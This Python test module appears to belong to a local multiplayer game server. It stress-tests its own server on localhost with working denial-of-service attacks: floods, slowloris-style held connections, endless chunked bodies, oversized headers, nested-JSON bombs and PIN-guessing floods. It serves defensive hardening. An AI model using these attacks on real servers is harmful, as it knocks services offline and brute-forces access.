"""Attacks: what one phone, or anybody in the Wi-Fi, can send. ``python -m tests.attack.attacks NAME PORT COOKIE``.

Each goes on until its process is ended, and sends from addresses of its own.
"""

from __future__ import annotations

import contextlib
import json
import re
import socket
import sys
from collections.abc import Callable, Iterator
from itertools import count, cycle
from threading import Thread
from time import sleep

import msgspec

from tests.bench.lines import HERE, Lines, head
from tests.views import read

SIDE_BY_SIDE = 20
"""Connections of a flood."""
ADDRESSES = tuple(f"127.0.0.{number}" for number in range(2, 32))
"""The addresses of the attackers: a phone has one, a crowd has all."""
PATIENCE = 5.0

_LENGTH = re.compile(rb"content-length: (\d+)")
_IDS = map(str, count(1))


class Target:
    """The table under attack. ``cookie`` is the header of the seat that attacks."""

    def __init__(self, port: int, cookie: str) -> None:
        self.port = port
        self.cookie = cookie

    def line(self, address: str = ADDRESSES[0]) -> socket.socket:
        return socket.create_connection((HERE, self.port), PATIENCE, (address, 0))

    def get(self, path: str, *headers: str) -> bytes:
        return head("GET", path, self.port, headers)

    def post(self, path: str, body: bytes, *headers: str) -> bytes:
        return head("POST", path, self.port, headers, len(body)) + body


def flood(target: Target, request: bytes, side_by_side: int = SIDE_BY_SIDE) -> None:
    """Send a request again and again, on many connections, as fast as answers come."""

    def send() -> None:
        while True:
            with contextlib.suppress(OSError), target.line() as line:
                while True:
                    line.sendall(request)
                    _read_answer(line)

    workers = [Thread(target=send, daemon=True) for _ in range(side_by_side)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


def _read_answer(line: socket.socket) -> None:
    """Read a whole answer."""
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += _some(line)
    start, _, body = answer.partition(b"\r\n\r\n")
    length = _LENGTH.search(start.lower())
    missing = int(length[1]) - len(body) if length else 0
    while missing > 0:
        missing -= len(_some(line))


def _some(line: socket.socket) -> bytes:
    data = line.recv(65_536)
    if not data:
        raise ConnectionResetError
    return data


def pour(target: Target, start: bytes, piece: bytes) -> None:
    """Begin a request and never end it."""
    while True:
        with contextlib.suppress(OSError), target.line() as line:
            line.sendall(start)
            while True:
                line.sendall(piece)


def hold(target: Target, most: int, start: bytes, addresses: tuple[str, ...], drip: bytes = b"") -> None:
    """Hold so many connections open, each with the start of a request, and let something drip into them."""
    lines: list[socket.socket] = []
    source = cycle(addresses)
    while True:
        with contextlib.suppress(OSError):
            while len(lines) < most:
                lines.append(target.line(next(source)))
                lines[-1].sendall(start)
        for line in tuple(lines):
            try:
                line.sendall(drip) if drip else None
                line.settimeout(0)
                with contextlib.suppress(BlockingIOError):
                    if not line.recv(65_536):
                        raise ConnectionResetError
            except OSError:
                lines.remove(line)
                line.close()
        sleep(0.2)


def cookies(target: Target) -> None:
    flood(target, target.get("/", "Cookie: language=" + '"' + "\\" * 31_000 + '"'))


def trailers(target: Target) -> None:
    start = target.get("/", "Transfer-Encoding: chunked") + b"0\r\n"
    pour(target, start, b"A: b\r\n" * 1_000)


def long_bodies(target: Target) -> None:
    pour(target, target.get("/", "Transfer-Encoding: chunked"), b"4000\r\n" + b"x" * 0x4000 + b"\r\n")


def huge_heads(target: Target) -> None:
    pour(target, b"GET / HTTP/1.1\r\nA: ", b"x" * 10_000)


def digits(target: Target) -> None:
    length = f"Content-Length: {'0' * 5_000}2"
    flood(target, head("POST", "/join", target.port, [length, "Content-Type: application/json"]) + b"{}")


def header_lines(target: Target) -> None:
    flood(target, target.get("/", *("a:" for _ in range(3_500))))


def requests(target: Target) -> None:
    flood(target, target.get("/"))


def new_lines(target: Target) -> None:
    flood(target, target.get("/", "Connection: close"))


def pipelined(target: Target) -> None:
    flood(target, target.get("/phone/log?before=9", target.cookie) * 200)


def codes(target: Target) -> None:
    flood(target, target.post("/join", b'{"code":"x","take":true}'))


def pins(target: Target) -> None:
    flood(target, target.post("/table/private/open", b'{"seat":"raven","pin":"1234"}'))


def uploads(target: Target) -> None:
    """Send a photo again and again, with a code that is none."""
    flood(target, target.post("/b/send", b"\xff\xd8\xff" + bytes(3_000_000), "Code: x"))


def sheets(target: Target) -> None:
    flood(target, target.get("/labels"))


def picks(target: Target) -> None:
    command = {"do": "make_picks", "id": "x", "ask": "act.raven.1.0.0", "made": 0, "picks": [["region", "bear-1"]] * 90}
    flood(target, target.post("/phone/send", json.dumps(command).encode(), target.cookie))


def bombs(target: Target) -> None:
    flood(target, target.post("/phone/send", b'{"do":' + b"[" * 16_000, target.cookie))


def logs(target: Target) -> None:
    flood(target, target.get("/phone/log?before=40", target.cookie))


def streams(target: Target) -> None:
    hold(target, 500, target.get("/phone/stream", target.cookie), ADDRESSES[:1])


def reconnects(target: Target) -> None:
    """Open a stream, take its first views, and break the connection by a second request."""
    flood(target, target.get("/phone/stream", target.cookie))


def web_sockets(target: Target) -> None:
    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: eA==")
    flood(target, target.get("/phone/stream", target.cookie, *upgrade))


def slow_heads(target: Target) -> None:
    hold(target, 500, b"GET / HTTP/1.1\r\nA: ", ADDRESSES[:1], b"x")


def slow_bodies(target: Target) -> None:
    hold(target, 500, head("POST", "/join", target.port, [], 16_000), ADDRESSES[:1], b" ")


def idle_lines(target: Target) -> None:
    hold(target, 1_000, b"", ADDRESSES)


def amendments(target: Target) -> None:
    """Answer an own entry anew, again and again."""
    lines = Lines(target.port, "/phone/stream", [[target.cookie]])
    while True:
        view = read(lines.streams[0].newest)
        lines.post("/phone/send", [target.cookie], {"id": next(_IDS), **amends(view)})
        lines.rest(0.002)


def amends(view: object) -> dict[str, object]:
    """The next command of a player who amends."""
    amending = view.amending  # type: ignore[attr-defined]
    if amending is None:
        found: Iterator[int] = (line.seq for line in view.log if line.amendable)  # type: ignore[attr-defined]
        return {"do": "open_amendment", "seq": next(found, 1)}
    ask = amending.ask
    if amending.follows is not None or not ask.offers:
        return {"do": "amend_entry", "ask": ask.name, "agreed": True}
    picks = msgspec.to_builtins(ask.offers[-1].picks)
    return {"do": "make_picks", "ask": ask.name, "made": len(ask.made), "picks": picks}


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        cookies,
        trailers,
        long_bodies,
        huge_heads,
        digits,
        header_lines,
        requests,
        new_lines,
        pipelined,
        codes,
        pins,
        uploads,
        sheets,
        picks,
        bombs,
        logs,
        streams,
        reconnects,
        web_sockets,
        slow_heads,
        slow_bodies,
        idle_lines,
        amendments,
    )
}


if __name__ == "__main__":
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    ATTACKS[sys.argv[1]](Target(int(sys.argv[2]), sys.argv[3]))
